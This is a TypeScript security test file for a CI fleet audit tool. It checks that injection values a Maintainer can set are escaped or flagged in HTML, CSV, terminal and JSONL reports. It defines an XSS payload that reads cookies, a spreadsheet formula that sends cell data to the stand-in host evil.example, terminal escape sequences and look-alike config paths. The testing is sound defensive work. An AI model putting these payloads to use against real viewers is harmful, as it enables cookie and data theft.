/**
 * Attacks on the fleet audit by a project Maintainer, who chooses the project's CI configuration
 * file setting (any text) and its variables. Run through the real CLI against the fleet stand-in.
 * - Markup or script in ci_config_path must not run in the HTML report a security lead opens.
 * - A formula in ci_config_path must not run in a spreadsheet opening the CSV.
 * - Terminal escapes in ci_config_path must not reach the job log or terminal from the table.
 * - A look-alike of the central file (ref suffix, blank, other case) is reported not enforced.
 * - Variables that override predefined CI_* or the platform's POLICY_SIDECAR_* are reported.
 */
import { afterAll, describe, expect, it } from 'vitest';
import { CENTRAL } from '../http/fleet-gitlab.js';
import { startFleet, type FleetServer } from '../fleet/fleet-cli.js';

const SCRIPT = '"><script>alert(document.cookie)</script><img src=x onerror=alert(1)>';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"ok")';
const ESCAPES = 'ok.yml\u001b]0;pwned\u0007\u001b[2J\r\nacme/fake-row  yes';
const LOOKALIKES = [`${CENTRAL}:attacker-branch`, `${CENTRAL} `, 'pipeline.yml@Platform/CI', `../${CENTRAL}`];

let server: FleetServer;
afterAll(async () => {
  await server.served.close();
});

async function audit(format: string): Promise<string> {
  server ??= await startFleet({
    size: 8,
    configPaths: new Map<number, string>([
      [0, SCRIPT],
      [1, FORMULA],
      [3, ESCAPES],
      ...LOOKALIKES.map((value, index): [number, string] => [4 + index, value]),
    ]),
  });
  const result = await server.cli(['audit', '--group', 'acme', '--central-config', CENTRAL, '--format', format]);
  expect(result.code).toBe(1);
  return result.stdout;
}

describe('attack: a Maintainer writes into the audit report through ci_config_path', { timeout: 120_000 }, () => {
  it('html: script and markup are escaped text; the page loads nothing from anywhere', async () => {
    const html = await audit('html');
    expect(html).not.toContain('<script>alert');
    expect(html).not.toContain('<img src=x');
    expect(html).toContain('&#60;script&#62;alert(document.cookie)&#60;/script&#62;');
    // Only our own inline script, under a CSP that forbids every fetch.
    expect(html.match(/<script>/g)).toHaveLength(1);
    expect(html).toContain("default-src 'none'");
  });

  it('csv: a formula becomes text (leading apostrophe), quoted', async () => {
    const csv = await audit('csv');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""ok"")"`);
    expect(csv.split('\r\n').some((line) => /^[^"]*,=HYPERLINK/.test(line))).toBe(false);
  });

  it('table: terminal escapes and line breaks are replaced: no forged row, no title change', async () => {
    const table = await audit('table');
    expect(table).not.toContain('\u001b');
    expect(table).not.toContain('\u0007');
    expect(table.split('\n').filter((line) => line.startsWith('acme/fake-row'))).toEqual([]);
  });

  it('jsonl: look-alikes of the central file are not enforced', async () => {
    const rows = (await audit('jsonl'))
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { id: number; enforced: boolean; ciConfigPath: string });
    for (const [offset, value] of LOOKALIKES.entries()) {
      expect(rows.find((row) => row.id === 100_004 + offset)).toMatchObject({ ciConfigPath: value, enforced: false });
    }
  });
});

describe('attack: project variables that override what compose relies on', { timeout: 120_000 }, () => {
  it('a CI_* variable and a POLICY_SIDECAR_* variable are reported as drift', async () => {
    const rows = (await audit('jsonl'))
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { id: number; drift: { code: string; message: string }[] });
    expect(rows.find((row) => row.id === 100_003)?.drift).toContainEqual({
      code: 'variable-shadows-predefined',
      message: 'project variable CI_COMMIT_BRANCH overrides the predefined variable of that name',
    });
    expect(rows.find((row) => row.id === 100_004)?.drift.map((finding) => finding.code)).toContain('variable-overrides-sidecar');
  });
});
